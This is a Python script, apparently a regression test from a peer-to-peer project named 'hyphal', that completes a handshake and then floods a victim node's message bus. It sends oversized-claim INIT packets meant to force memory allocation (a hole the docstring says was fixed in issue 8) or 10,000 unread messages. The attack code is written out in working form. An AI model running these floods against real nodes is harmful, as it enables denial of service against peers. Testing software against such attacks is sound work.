"""A neighbour that completes a real handshake, then attacks the victim's message bus with real,
end-to-end sealed bus packets from its own key.

    bus_attacker.py HOST VICTIM_PUBKEY_HEX MODE SECONDS

Modes:
* ``amplify``: 4 INITs, each claiming a 128 MiB message and carrying only its first chunk;
  no other chunk ever follows. (Before issue 8 each made the victim allocate the whole message.)
* ``inbox-flood``: 10,000 empty messages on a topic nobody reads.
Then it keeps the link alive with Hellos for SECONDS and prints ``sent N packets``.
"""

from __future__ import annotations

import os
import sys
import time

from hyphal.bus.chunks import MAX_CHUNK_SIZE
from hyphal.bus.digest import message_digest
from hyphal.crypto.e2e import E2ECrypto
from hyphal.testing.rawlink import RawLink
from hyphal.wire import bus
from hyphal.wire.data import KIND_BUS
from hyphal.wire.link import FRAME_DATA

PORT = 9651
CLAIMED = 128 * 1024 * 1024
FLOOD = 10_000


def packets(mode: str) -> list[bus.BusPacket]:
    if mode == "amplify":
        first = os.urandom(MAX_CHUNK_SIZE)
        return [
            bus.Init(
                os.urandom(8), False, CLAIMED, MAX_CHUNK_SIZE, 600, os.urandom(32), b"big", first
            )
            for _ in range(4)
        ]
    if mode == "inbox-flood":
        empty = message_digest(b"")
        return [
            bus.Init(os.urandom(8), False, 0, 1024, 600, empty, b"unread", b"")
            for _ in range(FLOOD)
        ]
    raise SystemExit(f"unknown mode {mode}")


def main() -> None:
    host, victim, mode, seconds = (
        sys.argv[1],
        bytes.fromhex(sys.argv[2]),
        sys.argv[3],
        float(sys.argv[4]),
    )
    link = RawLink(host, PORT)
    e2e = E2ECrypto(link.identity)
    sent = 0
    for packet in packets(mode):
        link.send_frame(FRAME_DATA, bytes(e2e.seal(victim, KIND_BUS, bus.encode(packet))))
        sent += 1
        if sent % 200 == 0:
            link.keep_alive()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        link.keep_alive()
        time.sleep(0.1)
    link.close()
    print(f"sent {sent} packets", flush=True)


if __name__ == "__main__":
    main()
